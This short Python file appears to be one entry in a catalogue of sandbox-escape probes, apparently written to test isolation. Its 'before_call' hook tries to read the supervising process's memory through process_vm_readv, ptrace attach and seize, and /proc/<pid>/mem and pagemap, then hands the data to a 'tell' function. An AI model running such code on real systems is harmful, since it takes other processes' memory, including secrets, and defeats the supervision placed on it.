"""Catalogue: 17, 22. Reads the supervisor's memory by every system call that could."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def before_call(args, kwargs):
    buffer = ctypes.create_string_buffer(1 << 16)
    mine = Vector(ctypes.cast(buffer, ctypes.c_void_p), len(buffer))
    for process in (1, os.getppid(), 2, 3):
        for base in (0x400000, 0x55555555, 0x7FFF00000000):
            theirs = Vector(base, len(buffer))
            libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
            tell(buffer.raw)
        libc.ptrace(16, process, 0, 0)
        libc.ptrace(0x4206, process, 0, 0)
        for name in ("mem", "pagemap", "syscall", "personality"):
            try:
                with open(f"/proc/{process}/{name}", "rb", buffering=0) as file:
                    tell(file.read(4096))
            except OSError:
                pass
